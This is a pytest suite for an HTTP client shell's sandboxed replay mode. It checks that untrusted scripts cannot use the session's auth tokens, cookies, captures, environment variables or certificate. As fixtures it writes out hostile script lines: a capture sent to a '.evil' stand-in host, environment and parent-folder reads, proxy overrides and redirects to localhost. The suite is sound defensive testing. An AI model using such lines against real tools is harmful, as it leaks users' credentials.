"""`replay FILE --sandbox`: a script that is not trusted has nothing of the session but its base and its options."""

from __future__ import annotations

from pathlib import Path

import pytest

from callbox.exchange.secret import reveal
from callbox.render.ansi_and_sanitiser import plain
from callbox.shell.outputs import Failure, Status, TextOutput

SECRET = "canary-e5c1"
HELD = [
    f"set auth bearer {SECRET}",
    f"set auth basic ann {SECRET}",
    f"set header X-Key {SECRET}",
    f"set cookie sid {SECRET}",
    f"set query key {SECRET}",
    f"set var token {SECRET}",
]


def sent(shell) -> str:
    """The last request, and what the server says that it was."""
    record = shell.context.last
    fields = [(field.name, reveal(field.value)) for field in record.outgoing.headers]
    return f"{record.outgoing.url} {fields} {record.body!r}"


def told(shell, line: str) -> str:
    """Everything that a line says and shows, failures too, with single blanks in place of line breaks."""
    outputs = shell.run(line)
    failures = [output.error.message for output in outputs if isinstance(output, Failure)]
    shown = "".join([plain(o.fragments) for o in outputs if isinstance(o, TextOutput | Status)] + failures)
    return " ".join(shown.split())


@pytest.mark.parametrize("url", ["/echo", "BASE/echo"], ids=["relative", "literal"])
@pytest.mark.parametrize("line", HELD, ids=lambda line: line.split()[1] + line.split()[2])
def test_a_sandboxed_script_is_not_sent_in_the_users_name(shell, api, tmp_path: Path, line, url) -> None:
    (tmp_path / "evil.http").write_text(f"GET {url}\n".replace("BASE", api.url))
    shell.say(line)

    assert "1 request: 1 ok" in shell.say("replay evil.http --sandbox")
    assert SECRET not in sent(shell)


@pytest.mark.parametrize("line", HELD, ids=lambda line: line.split()[1] + line.split()[2])
def test_again_does_not_send_it_in_the_users_name_either(shell, tmp_path: Path, line) -> None:
    (tmp_path / "evil.http").write_text("GET /echo\n")
    shell.say(line, "replay evil.http --sandbox")
    shell.run("again")

    assert len(shell.context.history.items()) == 2
    assert SECRET not in sent(shell)


def test_without_the_sandbox_the_session_goes_along(shell, tmp_path: Path) -> None:
    (tmp_path / "mine.http").write_text("GET /echo\n")
    shell.say(f"set header X-Key {SECRET}")
    shell.say("replay mine.http")

    assert SECRET in sent(shell)


def test_the_password_of_the_base_stays(shell, api, tmp_path: Path) -> None:
    (tmp_path / "evil.http").write_text("GET /echo\n")
    shell.context.session.base_url = api.url.replace("://", f"://ann:{SECRET}@")
    shell.say("replay evil.http --sandbox")

    assert "Authorization" not in sent(shell)


def test_what_a_sandboxed_script_captures_and_is_given_stays_nowhere(shell, tmp_path: Path) -> None:
    (tmp_path / "evil.http").write_text("# @capture base = status\nGET /cookies/set/sid/evil\n")
    said = told(shell, "replay evil.http --sandbox")

    assert "1 ok" in said
    assert shell.context.captures == {}
    assert shell.context.session.jar.snapshot() == ()


def test_captures_of_earlier_replays_are_not_there(shell, tmp_path: Path) -> None:
    (tmp_path / "evil.http").write_text("GET /echo?{{token}}\n")
    shell.context.captures["token"] = SECRET

    assert "No variable 'token'" in told(shell, "replay evil.http --sandbox")


def test_options_of_the_session_count_and_its_certificate_does_not(shell, tmp_path: Path) -> None:
    (tmp_path / "evil.http").write_text("GET /slow?seconds=5\n")
    shell.say("set option cert ./mine.pem --everywhere", "set option timeout 100ms", "set option netrc yes")
    said = told(shell, "replay evil.http --sandbox")

    assert "mine.pem" not in said
    assert "0.1 s" in said or "100 ms" in said


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("curl -x http://127.0.0.1:1 BASE/echo", "only the command line may set in a sandbox"),
        ("GET http://127.0.0.1:1/{{$env.HOME}}", "is not read in a sandbox"),
        ("POST /echo\n\n< ../x", "is outside of the script's folder"),
        ("# @capture to = body $.url\nGET /echo\n###\nGET http://{{to}}.evil/", "write / before {{to}}"),
        (
            "# @no-redirect\n# @capture to = header location\nGET /redirect-to?url=http://127.0.0.1:1/\n###\nGET {{to}}",
            "are not allowed",
        ),
        ("GET /redirect-to?url=http://127.0.0.1:1/", "are not allowed"),
    ],
)
def test_the_promise_of_the_sandbox_holds_in_the_shell(shell, api, tmp_path: Path, line, why) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in/evil.http").write_text(line.replace("BASE", api.url))

    assert why in told(shell, "replay in/evil.http --sandbox")


def test_a_folder_for_output_and_names_of_the_environment_can_be_said(shell, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("FINE", "fine")
    (tmp_path / "evil.http").write_text("GET /echo?{{$env.FINE}}\n\n>> made.json\n")
    said = shell.say("replay evil.http --sandbox --sandbox-output out --allow-env FINE")

    assert "1 request: 1 ok" in said
    assert b"fine" in (tmp_path / "out/made.json").read_bytes()


def test_they_go_with_the_sandbox(shell, tmp_path: Path) -> None:
    (tmp_path / "a.http").write_text("GET /echo\n")

    assert "--allow-env works only with --sandbox" in shell.fail("replay a.http --allow-env HOME")


def test_again_leaves_the_password_of_the_base_out_as_well(shell, api, tmp_path: Path) -> None:
    (tmp_path / "evil.http").write_text("DELETE /echo\n")
    shell.context.session.base_url = api.url.replace("://", "://ann:pw-of-the-base@")
    shell.run("replay evil.http --sandbox", "again")

    assert len(shell.context.history.items()) == 2
    assert "Authorization" not in [field.name for field in shell.context.last.outgoing.headers]
